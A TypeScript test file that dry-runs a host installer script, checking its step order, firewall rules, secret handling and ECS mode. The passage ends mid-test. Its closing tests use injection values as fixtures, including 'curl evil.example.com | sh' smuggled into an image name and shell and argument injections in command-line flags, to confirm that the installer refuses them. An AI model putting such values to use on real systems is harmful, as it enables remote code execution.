/**
 * The host installer (dist/host-bundle/install.sh) in dry runs: a temporary root, stub commands that
 * record their argv (support/fake-host.sh), and a fake AWS world shared between hosts. Shows the steps
 * and their order, the files and their modes, that a second run changes nothing, that a replacement
 * host reaches the same state from the same parameters and secrets, and how bad input is refused. ECS mode (the host
 * configuration's ecs section) in one more dry run: the spawner's ecs configuration, EFS through the host's access point,
 * the runtime proxy's taskSubnets, sandboxDomain and internalListen (checked with the proxy's own settings parser), the
 * firewall's task subnets, and the record `*.<sandbox domain>` the host UPSERTs in the private zone (a failure stops it).
 */
import { spawnSync } from "node:child_process";
import { createHmac } from "node:crypto";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "yaml";
import {
  AGENT_SERVER_DIGEST,
  DryRunHost,
  EDGE_PARAMETER,
  mutatingCalls,
  sampleEcsHostConfig,
  sampleHostConfig,
  secretArn,
  type RunResult,
} from "./support/dry-run";

/** The runtime proxy's own settings parser (packages/runtime-proxy src/settings.ts): what its renderer accepts. */
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { parseSettings: parseProxySettings } = require("@openhands-team/runtime-proxy") as {
  parseSettings: (raw: unknown, defaultLuaDir: string) => { readonly taskSubnets: readonly string[] };
};

const SECRET_NAMES = ["identity-signing-key", "openhands-jwt-secret", "llm-gateway-key", "db-password-key"];
const BASE64URL_32_BYTES = /^[A-Za-z0-9_-]{43}$/;

function firstIndex(calls: readonly string[], pattern: RegExp): number {
  const index = calls.findIndex((c) => pattern.test(c));
  if (index < 0) throw new Error(`no call matches ${pattern}:\n${calls.join("\n")}`);
  return index;
}

describe("install.sh on a bare host (dry run)", () => {
  const host = new DryRunHost();
  let first: RunResult;

  beforeAll(() => {
    first = host.run();
  }, 320_000);
  afterAll(() => host.cleanup());

  it("GIVEN a bare host WHEN install.sh runs THEN it succeeds and takes the steps in their order", () => {
    expect(first.stderr).toContain("done:");
    expect(first.code).toBe(0);
    const order = [
      /^dnf install -y -q docker amazon-efs-utils jq amazon-cloudwatch-agent$/,
      /^curl .* https:\/\/github.com\/docker\/compose\/releases\/download\/v2.33.0\/docker-compose-linux-aarch64$/,
      /^aws ssm get-parameter --region eu-central-1 --name \/oh\/test\/host\/config /,
      /^mkfs.xfs -q -L oh-docker \/dev\/xvdb$/,
      /^mount \/var\/lib\/docker$/,
      /^mount \/mnt\/openhands-efs$/,
      /^aws secretsmanager put-secret-value /,
      /^aws ssm put-parameter --region us-east-1 --name \/oh\/test\/edge\/secrets --type SecureString --overwrite /,
      /^iptables-restore -w --noflush$/,
      /^systemctl enable oh-firewall.service$/,
      /^systemctl start docker.service$/,
      /^docker pull -q ghcr.io\/openhands\/agent-server@sha256:c{64}$/,
      /^docker run --rm --network none .* node \/opt\/openhands-team\/runtime-proxy\/render.js /,
      /^systemctl start openhands-team.service$/,
      /^curl -fsS --max-time 3 http:\/\/127.0.0.1:8080\/_oh\/health$/,
    ];
    const indexes = order.map((re) => firstIndex(first.calls, re));
    expect(indexes).toEqual([...indexes].sort((a, b) => a - b));
  });

  it("THEN the firewall is in place before Docker ever starts, and at every boot before docker.service", () => {
    expect(firstIndex(first.calls, /^iptables -w -I DOCKER-USER 1 -j OH-FORWARD$/)).toBeLessThan(
      firstIndex(first.calls, /^systemctl start docker.service$/),
    );
    const unit = host.file("etc/systemd/system/oh-firewall.service");
    expect(unit).toMatch(/^Before=docker.service/m);
    expect(unit).toMatch(/^RequiredBy=docker.service$/m);
  });

  it(
    "THEN the firewall gets the VPC's CIDRs and the database port from the host " +
      "configuration, filled into its rules, and IPv6 rules too",
    () => {
      expect(host.file("etc/openhands-team/firewall.env")).toBe(
        "# openhands-team firewall settings, rendered from the host configuration (network.vpcCidrs, " +
          "database.port)\nVPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n",
      );
      expect(host.mode("etc/openhands-team/firewall.env")).toBe("0644");
      expect(host.file("etc/systemd/system/oh-firewall.service")).toMatch(
        /^ExecStart=\S+\/oh-firewall.sh \S+\/oh-firewall.rules \/etc\/openhands-team\/firewall.env$/m,
      );
      const loaded = readFileSync(join(host.state, "iptables"), "utf8");
      expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -s 10.240.0.2/255.255.0.255 -d 10.0.0.0/16 -p tcp --dport 5432 -j RETURN\n");
      expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.2/32 -p udp --dport 53 -j RETURN\n");
      expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.0/16 -j DROP\n");
      expect(loaded).not.toContain("@");
      expect(readFileSync(join(host.state, "ip6tables"), "utf8")).toContain("-A OH-FORWARD -i ohu-+ -j DROP\n");
      expect(first.calls).toEqual(
        expect.arrayContaining([
          "ip6tables-restore -w --noflush",
          "ip6tables -w -I INPUT 1 -j OH-INPUT",
          "ip6tables -w -I DOCKER-USER 1 -j OH-FORWARD",
        ]),
      );
    },
  );

  it("THEN the kernel keeps bridged traffic in iptables and the ephemeral port range the firewall opens, at every boot", () => {
    expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.bridge.bridge-nf-call-iptables = 1\n");
    expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.bridge.bridge-nf-call-ip6tables = 1\n");
    expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.ipv4.ip_local_port_range = 32768 60999\n");
    expect(host.file("etc/modules-load.d/openhands-team.conf")).toBe("br_netfilter\n");
    expect(firstIndex(first.calls, /^sysctl -q --system$/)).toBeLessThan(firstIndex(first.calls, /^systemctl start docker.service$/));
    const rules = readFileSync(join(host.root, "opt/openhands-team/host/firewall/oh-firewall.rules"), "utf8");
    expect(rules).toContain("--dport 32768:60999");
  });

  it("THEN every pinned image is pulled, the digest-pinned agent-server by digest and then tagged once with its tag", () => {
    const images = (sampleHostConfig() as { images: Record<string, string> }).images;
    const pulls = first.calls.filter((c) => /^docker (pull|tag)/.test(c));
    expect(pulls).toEqual([
      `docker pull -q ${images.app}`,
      `docker pull -q ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST}`,
      `docker tag ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST} ghcr.io/openhands/agent-server:1.19.1-python`,
      `docker pull -q ${images.openresty}`,
      `docker pull -q ${images.llmGateway}`,
      `docker pull -q ${images.node}`,
    ]);
    expect(first.calls.filter((c) => c.startsWith("docker image rm"))).toEqual([]);
    // the spawner gets the tag: OpenHands names sandbox images by their tag
    expect(JSON.parse(host.file("run/openhands-team/spawner.json")).images.agentServer).toBe(
      "ghcr.io/openhands/agent-server:1.19.1-python",
    );
  });

  it("THEN /etc/fstab mounts EFS with TLS and IAM and the Docker volume by its label, each once", () => {
    const fstab = host.file("etc/fstab");
    expect(fstab).toContain("fs-0123456789abcdef0:/ /mnt/openhands-efs efs _netdev,noresvport,tls,iam 0 0\n");
    expect(fstab).toContain("LABEL=oh-docker /var/lib/docker xfs defaults,noatime,nofail 0 2\n");
    expect(fstab.startsWith("UUID=1111-2222 / xfs")).toBe(true);
    expect(fstab.split("\n").filter(Boolean)).toHaveLength(3);
  });

  it("THEN each secret was generated once, with a fixed request token, and lives only in 0600 files on tmpfs", () => {
    const puts = first.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"));
    expect(puts).toHaveLength(4);
    for (const name of SECRET_NAMES) {
      expect(
        puts.some((c) =>
          c.includes(`--secret-id ${secretArn(name)} --client-request-token openhands-team-first-boot-${name} --secret-string file://`),
        ),
      ).toBe(true);
      const value = host.secret(secretArn(name))!;
      expect(value).toMatch(BASE64URL_32_BYTES);
      expect(host.file(`run/openhands-team/secrets/${name}`)).toBe(value);
      expect(host.mode(`run/openhands-team/secrets/${name}`)).toBe("0600");
    }
    expect(host.mode("run/openhands-team/secrets")).toBe("0700");
    for (const file of [
      "run/openhands-team/llm-gateway.env",
      "run/openhands-team/spawner.json",
      "etc/openhands-team/compose/.env",
      "run/openhands-team/secrets/db-admin-password",
    ]) {
      expect([file, host.mode(file)]).toEqual([file, "0600"]);
    }
    // no secret value on the command line of any call, nor in any file outside /run
    const values = [...SECRET_NAMES.map((n) => host.secret(secretArn(n))!), "master-password"];
    for (const value of values) expect(first.calls.filter((c) => c.includes(value))).toEqual([]);
    const onDisk = spawnSync(
      "grep",
      ["-rlF", ...values.flatMap((v) => ["-e", v]), join(host.root, "etc"), join(host.root, "opt"), join(host.root, "var")],
      { encoding: "utf8" },
    );
    expect(onDisk.stdout).toBe("");
  });

  it("THEN the edge secrets parameter holds the identity-signing key and fresh ticket and nonce keys", () => {
    const edge = JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, string>;
    expect(Object.keys(edge).sort()).toEqual(["identitySigningKey", "nonceKey", "ticketKey"]);
    expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
    expect(edge.ticketKey).toMatch(BASE64URL_32_BYTES);
    expect(edge.nonceKey).toMatch(BASE64URL_32_BYTES);
    expect(new Set(Object.values(edge)).size).toBe(3);
  });

  it("THEN Docker keeps the userland proxy on and ships container logs to CloudWatch", () => {
    const daemon = JSON.parse(host.file("etc/docker/daemon.json"));
    expect(daemon).toMatchObject({ "userland-proxy": true, icc: false, "live-restore": true, "log-driver": "awslogs" });
    expect(daemon["log-opts"]).toMatchObject({
      "awslogs-region": "eu-central-1",
      "awslogs-group": "/oh/test/apps",
      "awslogs-create-group": "false",
    });
  });

  it("THEN the LLM gateway routes every configured model to Bedrock with the instance role and a sk- master key", () => {
    const litellm = parse(host.file("etc/openhands-team/litellm.yaml"));
    expect(litellm.model_list).toEqual(
      (sampleHostConfig() as { bedrock: { models: string[] } }).bedrock.models.map((m) => ({
        model_name: m,
        litellm_params: { model: `bedrock/${m}`, aws_region_name: "eu-central-1" },
      })),
    );
    expect(litellm.general_settings.master_key).toBe("os.environ/LITELLM_MASTER_KEY");
    // Each person's key is checked by the hook, which LiteLLM loads from the configuration's folder.
    expect(litellm.general_settings.custom_auth).toBe("oh_llm_gateway.user_api_key_auth");
    expect(litellm.litellm_settings.callbacks).toEqual(["oh_llm_gateway.usage_logger"]);
    expect(host.file("etc/openhands-team/litellm/oh_llm_gateway.py")).toBe(
      readFileSync(join(__dirname, "..", "files", "host-bundle", "llm-gateway", "oh_llm_gateway.py"), "utf8"),
    );
    const composeEnv = host.file("etc/openhands-team/compose/.env");
    expect(composeEnv).toMatch(/^OH_EDGE_CONFIG_PARAMETER=\/[a-z0-9-]+\/[a-z0-9-]+\/edge\/config$/m);
    expect(composeEnv).toMatch(/^OH_EDGE_REGION=us-east-1$/m);
    expect(composeEnv).toMatch(/^OH_LLM_REQUESTS_PER_MINUTE=(\d+)?$/m);
    const key = `sk-${host.secret(secretArn("llm-gateway-key"))}`;
    expect(host.file("run/openhands-team/llm-gateway.env")).toBe(`LITELLM_MASTER_KEY=${key}\n`);
    expect(host.file("run/openhands-team/secrets/llm-gateway-api-key")).toBe(key);
  });

  it("THEN in docker mode the proxy gets no task subnets and the firewall loads none of ECS mode's rules", () => {
    const raw = JSON.parse(host.file("etc/openhands-team/proxy-settings.json")) as Record<string, unknown>;
    expect(raw.taskSubnets).toBeUndefined();
    expect(parseProxySettings(raw, "/opt/openhands-team/runtime-proxy/lua").taskSubnets).toEqual([]);
    expect(host.file("etc/openhands-team/firewall.env")).not.toContain("TASK_CIDRS");
    const loaded = readFileSync(join(host.state, "iptables"), "utf8");
    expect(loaded).not.toMatch(/^-A OH-INPUT .*(--dports? (8082|80)\b|multiport|-s 10\.0\.1(28|44)\.0)/m);
    expect(loaded).toContain("-A OH-INPUT -p tcp --dport 3000 -j DROP\n");
  });

  it("THEN the runtime proxy's own renderer accepted the settings and wrote nginx.conf", () => {
    const conf = host.file("etc/openhands-team/proxy/nginx.conf");
    expect(conf).toMatch(/listen 0\.0\.0\.0:8080/);
    expect(conf).toContain("/opt/openhands-team/runtime-proxy/lua");
    expect(conf).toContain("/run/openhands-team/secrets/identity-signing-key");
  });

  it("THEN the spawner's own configuration schema accepts the configuration", () => {
    // contract check against packages/spawner/src/config.ts (secret paths pointed into the dry run's root)
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { parseConfig } = require("@openhands-team/spawner") as { parseConfig: (input: unknown) => Record<string, unknown> };
    const text = host.file("run/openhands-team/spawner.json").replaceAll('"/run/openhands-team/', `"${host.root}/run/openhands-team/`);
    const config = parseConfig(JSON.parse(text)) as {
      database: { adminUser: string; adminPassword: string };
      secrets: Record<string, string>;
      llm: { model: string };
    };
    expect(config.database.adminUser).toBe("ohadmin");
    expect(config.database.adminPassword).toBe("master-password");
    expect(config.secrets.llmGatewayKey).toBe(`sk-${host.secret(secretArn("llm-gateway-key"))}`);
    expect(config.llm.model).toBe("eu.anthropic.claude-sonnet-4-5-20250929-v1:0");
  });

  it(
    "THEN the spawner, the proxy and the firewall agree on the users' networks " +
      "and the app port (the proxy refuses upstreams outside them)",
    () => {
      const spawner = JSON.parse(host.file("run/openhands-team/spawner.json")) as { network: { subnetPrefix: string; appPort: number } };
      const proxy = JSON.parse(host.file("etc/openhands-team/proxy-settings.json")) as { userSubnetPrefix: string; appPort: number };
      expect(proxy.userSubnetPrefix).toBe(spawner.network.subnetPrefix);
      expect(proxy.appPort).toBe(spawner.network.appPort);
      const firewall = host.file("opt/openhands-team/host/firewall/oh-firewall.sh");
      expect(firewall).toContain(`USER_NETWORKS=${spawner.network.subnetPrefix}.0.0/16\n`);
    },
  );

  it("THEN the CloudWatch agent publishes host memory and the Docker volume's disk use under the dimensions the alarms read", () => {
    const agent = JSON.parse(host.file("etc/openhands-team/cloudwatch-agent.json")) as Record<string, any>;
    expect(agent.metrics.namespace).toBe("CWAgent");
    expect(agent.metrics.append_dimensions).toEqual({ AutoScalingGroupName: "${aws:AutoScalingGroupName}" });
    expect(agent.metrics.aggregation_dimensions).toEqual([["AutoScalingGroupName"], ["AutoScalingGroupName", "path"]]);
    expect(agent.metrics.metrics_collected.mem.measurement).toEqual(["mem_used_percent"]);
    expect(agent.metrics.metrics_collected.disk.measurement).toEqual(["used_percent"]);
    expect(agent.metrics.metrics_collected.disk.resources).toContain("/var/lib/docker");
  });

  it("THEN the compose project it rendered validates with docker-compose config, and a broken one does not", () => {
    const compose = join(host.root, "etc/openhands-team/compose/compose.yaml");
    const env = join(host.root, "etc/openhands-team/compose/.env");
    const validate = (file: string) =>
      spawnSync("docker-compose", ["-f", file, "--env-file", env, "config", "-q"], {
        encoding: "utf8",
        env: { ...process.env, OH_RUN_DIR: join(host.root, "run/openhands-team") },
      });
    const good = validate(compose);
    expect(good.stderr).toBe("");
    expect(good.status).toBe(0);
    const dir = mkdtempSync(join(tmpdir(), "oh-compose-"));
    try {
      const broken = join(dir, "compose.yaml");
      writeFileSync(broken, readFileSync(compose, "utf8").replace("    restart: always\n", "    restart: always\n    bogus_key: 1\n"));
      expect(validate(broken).status).not.toBe(0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("THEN the stack unit needs Docker, the secrets and both mounts, restarts forever, and a watchdog is enabled", () => {
    const unit = host.file("etc/systemd/system/openhands-team.service");
    expect(unit).toMatch(/^Requires=docker.service oh-secrets.service$/m);
    expect(unit).toMatch(/^RequiresMountsFor=\/mnt\/openhands-efs \/var\/lib\/docker$/m);
    expect(unit).toMatch(/^Restart=always$/m);
    expect(first.calls).toContain("systemctl enable oh-health.timer");
    // a rotated database master password reaches the spawner's file within the hour
    expect(first.calls).toContain("systemctl enable oh-secrets-refresh.timer");
    expect(host.file("etc/systemd/system/oh-secrets-refresh.service")).toMatch(
      /^ExecStart=\/opt\/openhands-team\/host\/steps\/50-secrets.sh$/m,
    );
    expect(host.file("etc/systemd/system/oh-secrets-refresh.service")).not.toMatch(/RemainAfterExit/);
    expect(host.file("etc/systemd/system/oh-secrets-refresh.timer")).toMatch(/^OnUnitActiveSec=1h$/m);
    expect(host.mode("opt/openhands-team/host/firewall/oh-firewall.sh")).toBe("0755");
    expect(host.mode("opt/openhands-team/host/steps/50-secrets.sh")).toBe("0755");
  });

  it("THEN in docker mode nothing of ECS mode is there: no metadata lookup, no sandbox API key, no backend in the spawner's file", () => {
    expect(first.calls.filter((c) => c.includes("169.254.169.254"))).toEqual([]);
    expect(first.calls.filter((c) => c.startsWith("aws route53"))).toEqual([]);
    expect(host.exists("run/openhands-team/secrets/sandbox-api-key-secret")).toBe(false);
    const spawner = JSON.parse(host.file("run/openhands-team/spawner.json")) as Record<string, unknown>;
    expect(spawner.backend).toBeUndefined();
    expect(spawner.ecs).toBeUndefined();
    expect(host.file("etc/fstab")).not.toContain("accesspoint");
  });

  it("GIVEN the installed host WHEN install.sh runs again THEN no file changes and no command changes anything", () => {
    const before = host.snapshot();
    const second = host.run();
    expect(second.code).toBe(0);
    expect(second.stderr).toContain("done: 0 file(s) changed");
    expect(mutatingCalls(second.calls)).toEqual([]);
    const after = host.snapshot();
    after.delete("var/log/openhands-team/install.log");
    before.delete("var/log/openhands-team/install.log");
    expect(after).toEqual(before);
  }, 320_000);

  it("GIVEN a replacement host (same parameters and secrets, new disks, a stale extra tag on the agent-server image) WHEN install.sh " +
    "runs THEN it reuses every secret and reaches the same files", () => {
    const replacement = new DryRunHost({ world: host });
    try {
      replacement.touchState("images/agent-server");
      writeFileSync(
        join(replacement.state, "images/agent-server"),
        `ghcr.io/openhands/agent-server:1.19.1-python\nghcr.io/openhands/agent-server:latest\ndigest ` +
          `ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST}\n`,
      );
      const run = replacement.run();
      expect(run.code).toBe(0);
      expect(run.calls.filter((c) => /^aws (secretsmanager put-secret-value|ssm put-parameter)/.test(c))).toEqual([]);
      expect(run.calls).toContain("mkfs.xfs -q -L oh-docker /dev/xvdb");
      expect(run.calls).toContain("docker image rm ghcr.io/openhands/agent-server:latest");
      expect(run.calls.filter((c) => c.includes("agent-server") && /^docker (pull|tag)/.test(c))).toEqual([]);
      const digests = (snapshot: Map<string, string>) =>
        new Map([...snapshot].filter(([path]) => /^(etc|opt|run)\//.test(path)).map(([path, v]) => [path, v.replace(/ [\d.]+ /, " ")]));
      expect(digests(replacement.snapshot())).toEqual(digests(host.snapshot()));
    } finally {
      replacement.cleanup();
    }
  }, 320_000);

  it("GIVEN a changed host configuration (one more model, another apps log group) WHEN install.sh runs THEN it restarts exactly what " +
    "depends on the changed files", () => {
    const config = JSON.parse(host.parameter("/oh/test/host/config"));
    config.bedrock.models.push("eu.anthropic.claude-opus-4-1-20250805-v1:0");
    config.logGroups.apps = "/oh/test/apps-v2";
    host.setParameter("/oh/test/host/config", JSON.stringify(config));
    const run = host.run();
    expect(run.code).toBe(0);
    expect(mutatingCalls(run.calls)).toEqual(["systemctl restart docker.service", "systemctl restart openhands-team.service"]);
    expect(host.file("etc/openhands-team/litellm.yaml")).toContain("claude-opus-4-1");
    expect(JSON.parse(host.file("etc/docker/daemon.json"))["log-opts"]["awslogs-group"]).toBe("/oh/test/apps-v2");
  }, 320_000);
});

describe("install.sh in ECS mode (dry run)", () => {
  type Ecs = Record<string, string> & { subnets: string[]; subnetCidrs: string[]; sandboxZoneId: string };
  const hostConfig = sampleEcsHostConfig();
  const ecs = hostConfig.ecs as Ecs;
  const host = new DryRunHost({ hostConfig });
  // the metadata service answers an address of the VPC other than the stub's default, so the value can only come from it
  host.touchState("imds/local-ipv4");
  writeFileSync(join(host.state, "imds/local-ipv4"), "10.0.37.201");
  let first: RunResult;
  const SPAWNER_JSON = "run/openhands-team/spawner.json";
  const KEY_FILE = "run/openhands-team/secrets/sandbox-api-key-secret";

  beforeAll(() => {
    first = host.run();
  }, 320_000);
  afterAll(() => host.cleanup());

  it("GIVEN a host configuration with its ecs section WHEN install.sh runs THEN it succeeds", () => {
    expect(first.stderr).toContain("done:");
    expect(first.code).toBe(0);
  });

  it("THEN EFS is mounted with TLS and IAM through the host's access point (the file system policy refuses any other mount)", () => {
    expect(host.file("etc/fstab")).toContain(
      `fs-0123456789abcdef0:/ /mnt/openhands-efs efs _netdev,noresvport,tls,iam,accesspoint=${ecs.hostAccessPointId} 0 0\n`,
    );
    expect(ecs.hostAccessPointId).toMatch(/^fsap-/);
    expect(first.calls).toContain("mount /mnt/openhands-efs");
  });

  it("THEN the host's private address comes from the metadata service with IMDSv2 (a token first, then the address with it)", () => {
    const token = firstIndex(first.calls, /^curl .*-X PUT .*http:\/\/169\.254\.169\.254\/latest\/api\/token$/);
    const address = firstIndex(first.calls, /^curl .*X-aws-ec2-metadata-token:\\ fake-imds-token .*\/latest\/meta-data\/local-ipv4$/);
    expect(token).toBeLessThan(address);
  });

  it("THEN the spawner's own schema accepts its configuration, backend ecs with every value of the ecs section", () => {
    // contract check against packages/spawner/src/config.ts (secret paths pointed into the dry run's root)
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const { parseConfig } = require("@openhands-team/spawner") as { parseConfig: (input: unknown) => Record<string, any> };
    const text = host.file(SPAWNER_JSON).replaceAll('"/run/openhands-team/', `"${host.root}/run/openhands-team/`);
    const config = parseConfig(JSON.parse(text));
    expect(config.backend).toBe("ecs");
    expect(config.ecs).toMatchObject({
      region: ecs.region,
      cluster: ecs.cluster,
      subnets: ecs.subnets,
      appSecurityGroup: ecs.appSecurityGroup,
      sandboxSecurityGroup: ecs.sandboxSecurityGroup,
      executionRoleArn: ecs.executionRoleArn,
      efsFileSystemId: ecs.fileSystemId,
      hostPrivateAddress: "10.0.37.201",
      sandboxApiPort: 8082,
      sandboxDomain: ecs.sandboxDomain,
      taskLogGroup: ecs.taskLogGroup,
      userResources: {
        deployment: ecs.deployment,
        appRoleBoundaryArn: ecs.appRoleBoundaryArn,
        appRolePath: ecs.appRolePath,
        sandboxRoleBoundaryArn: ecs.sandboxRoleBoundaryArn,
        sandboxRolePath: ecs.sandboxRolePath,
        userSecretPrefix: ecs.userSecretPrefix,
      },
      appImage: "docker.openhands.dev/openhands/openhands:1.7.0",
    });
    // derived, not stored: HMAC-SHA256(db-password-key, "oh-sandbox-api-key-secret:v1"), base64url (32 bytes)
    const derived = createHmac("sha256", host.secret(secretArn("db-password-key"))!)
      .update("oh-sandbox-api-key-secret:v1")
      .digest("base64url");
    // no shared app task role: the spawner creates each user's app role under appRolePath, bound by appRoleBoundaryArn
    expect(JSON.parse(host.file(SPAWNER_JSON)).ecs).not.toHaveProperty("appTaskRoleArn");
    expect(config.ecs.sandboxApiKeySecret).toBe(derived);
    expect(derived).toMatch(BASE64URL_32_BYTES);
    expect(derived).not.toBe(host.secret(secretArn("db-password-key")));
    // the rest is docker mode's rendering: the same spawner file apart from backend and ecs
    const { backend: _backend, ecs: _ecs, ...rest } = JSON.parse(host.file(SPAWNER_JSON)) as Record<string, unknown>;
    expect(Object.keys(rest).sort()).toEqual([
      "api",
      "appHost",
      "database",
      "docker",
      "eventsBucket",
      "images",
      "llm",
      "network",
      "paths",
      "region",
      "runtimeDomain",
      "secrets",
      "users",
      "version",
    ]);
  });

  it("THEN the runtime proxy's own settings parser accepts its settings, with taskSubnets = ecs.subnetCidrs (its only upstreams)", () => {
    const raw = JSON.parse(host.file("etc/openhands-team/proxy-settings.json")) as Record<string, unknown>;
    const settings = parseProxySettings(raw, "/opt/openhands-team/runtime-proxy/lua");
    expect(settings.taskSubnets).toEqual(ecs.subnetCidrs);
    // the internal sandbox names, served on the host's private address (the metadata service's answer), port 80
    expect(raw).toMatchObject({ sandboxDomain: ecs.sandboxDomain, internalListen: "10.0.37.201:80" });
    expect(ecs.subnetCidrs).toHaveLength(ecs.subnets.length);
    // the renderer (run for real by the docker stub) carried them into nginx.conf
    expect(host.file("etc/openhands-team/proxy/nginx.conf")).toContain(`"taskSubnets":${JSON.stringify(ecs.subnetCidrs)}`);
    // apart from taskSubnets, the settings docker mode renders
    expect(Object.keys(raw).sort()).toEqual(
      [
        "accessLog",
        "appHost",
        "appPort",
        "errorLog",
        "identityKeyFile",
        "listen",
        "luaDir",
        "runDir",
        "runtimeDomain",
        "spawnerUrl",
        "taskSubnets",
        "userSubnetPrefix",
        "internalListen",
        "sandboxDomain",
      ].sort(),
    );
  });

  it(
    "THEN it UPSERTs *.<sandbox domain> A <its private address> TTL 60 in the sandbox zone, after the proxy's configuration and " +
      "before the stack starts",
    () => {
      const route53 = first.calls.filter((c) => c.startsWith("aws route53"));
      expect(route53).toHaveLength(1);
      expect(route53[0]).toMatch(
        new RegExp(`^aws route53 change-resource-record-sets --hosted-zone-id ${ecs.sandboxZoneId} --change-batch `),
      );
      expect(ecs.sandboxZoneId).toMatch(/^Z[A-Z0-9]+$/);
      const batch = JSON.parse(readFileSync(join(host.state, "route53", ecs.sandboxZoneId), "utf8")) as { Changes: unknown[] };
      expect(batch.Changes).toEqual([
        {
          Action: "UPSERT",
          ResourceRecordSet: { Name: `*.${ecs.sandboxDomain}`, Type: "A", TTL: 60, ResourceRecords: [{ Value: "10.0.37.201" }] },
        },
      ]);
      const record = firstIndex(first.calls, /^aws route53 change-resource-record-sets /);
      expect(firstIndex(first.calls, /^docker run --rm --network none .*render\.js/)).toBeLessThan(record);
      expect(record).toBeLessThan(firstIndex(first.calls, /^systemctl start openhands-team\.service$/));
      expect(first.stderr).toContain(`*.${ecs.sandboxDomain} -> 10.0.37.201 (zone ${ecs.sandboxZoneId})`);
    },
  );

  it("THEN the firewall gets the task subnets' CIDRs and loads the task doors (3000, 4000, 8082, 80) for them alone", () => {
    expect(host.file("etc/openhands-team/firewall.env")).toBe(
      "# openhands-team firewall settings, rendered from the host configuration (network.vpcCidrs, database.port)\n" +
        "VPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n# ECS mode: the task subnets (ecs.subnetCidrs)\n" +
        `TASK_CIDRS=${ecs.subnetCidrs.join(" ")}\n`,
    );
    const loaded = readFileSync(join(host.state, "iptables"), "utf8");
    for (const cidr of ecs.subnetCidrs) {
      expect(loaded).toContain(`-A OH-INPUT -s ${cidr} -p tcp -m multiport --dports 3000,4000 -j RETURN\n`);
      expect(loaded).toContain(`-A OH-INPUT -s ${cidr} -p tcp -m multiport --dports 8082,80 -j RETURN\n`);
    }
    expect(loaded).toContain("-A OH-INPUT -p tcp --dport 8082 -j DROP\n");
    expect(loaded).not.toContain("@");
  });

  it("THEN the sandbox API key secret lives only in a 0600 file on tmpfs, never on a command line or a disk", () => {
    expect(host.mode(KEY_FILE)).toBe("0600");
    const value = host.file(KEY_FILE);
    expect(first.calls.filter((c) => c.includes(value))).toEqual([]);
    const onDisk = spawnSync("grep", ["-rlF", "-e", value, join(host.root, "etc"), join(host.root, "opt"), join(host.root, "var")], {
      encoding: "utf8",
    });
    expect(onDisk.stdout).toBe("");
  });

  it("GIVEN the installed host WHEN oh-secrets runs at the next boot THEN the key and the spawner's file stay the same", () => {
    const before = [host.file(SPAWNER_JSON), host.file(KEY_FILE)];
    const boot = host.runScript("steps/50-secrets.sh");
    expect(boot.code).toBe(0);
    expect(boot.stderr).not.toContain("wrote");
    expect([host.file(SPAWNER_JSON), host.file(KEY_FILE)]).toEqual(before);
  });

  it("GIVEN the host role may not change the record WHEN install.sh runs THEN it stops naming the record and starts nothing", () => {
    host.touchState("route53/deny");
    const run = host.run();
    rmSync(join(host.state, "route53/deny"));
    expect(run.code).not.toBe(0);
    // the retry helper tried five times, then the install stopped before the services step
    expect(run.calls.filter((c) => c.startsWith("aws route53 change-resource-record-sets"))).toHaveLength(5);
    expect(run.stderr).toContain(
      `cannot point *.${ecs.sandboxDomain} at this host (10.0.37.201) in the private hosted zone ${ecs.sandboxZoneId}`,
    );
    expect(run.stderr).not.toContain("done:");
    expect(run.calls.filter((c) => /^systemctl (start|restart) openhands-team\.service$/.test(c))).toEqual([]);
  }, 320_000);

  it("GIVEN the metadata service answers a public address WHEN oh-secrets runs THEN it stops and keeps the spawner's file", () => {
    const before = host.file(SPAWNER_JSON);
    writeFileSync(join(host.state, "imds/local-ipv4"), "203.0.113.5");
    const boot = host.runScript("steps/50-secrets.sh");
    writeFileSync(join(host.state, "imds/local-ipv4"), "10.0.37.201");
    expect(boot.code).not.toBe(0);
    expect(boot.stderr).toContain('gave "203.0.113.5" as the host\'s private IPv4 address, which is not one');
    expect(host.file(SPAWNER_JSON)).toBe(before);
  });
});

describe("install.sh refuses bad input (dry run)", () => {
  const hosts: DryRunHost[] = [];
  const newHost = (options?: ConstructorParameters<typeof DryRunHost>[0]) => {
    const h = new DryRunHost(options);
    hosts.push(h);
    return h;
  };
  afterAll(() => {
    for (const h of hosts) h.cleanup();
  });

  it.each([
    ["--region", "eu-central-1; reboot"],
    ["--host-config-parameter", "/oh/x' --endpoint-url https://evil.example.com '"],
  ])("GIVEN %s %j (command injection) WHEN install.sh starts THEN it refuses before calling anything", (flag, value) => {
    const host = newHost();
    const args = ["--region", "eu-central-1", "--host-config-parameter", "/oh/test/host/config"];
    args[args.indexOf(flag) + 1] = value;
    const run = host.run(args);
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain(`${flag}: "${value}" is not`);
    expect(run.calls).toEqual([]);
  });

  it("GIVEN a host configuration with a newline in the EFS id, a shell command in an image and a rule in the VPC CIDRs (config " +
    "injection) WHEN install.sh runs THEN every bad field is named and nothing is mounted", () => {
    const config = sampleHostConfig() as Record<string, any>;
    config.efsFileSystemId = "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/";
    config.images.node = "node:20; curl evil.example.com | sh";
    config.bedrock.models = [];
    // a firewall rule smuggled in through the VPC's CIDR list (it becomes an iptables argument)
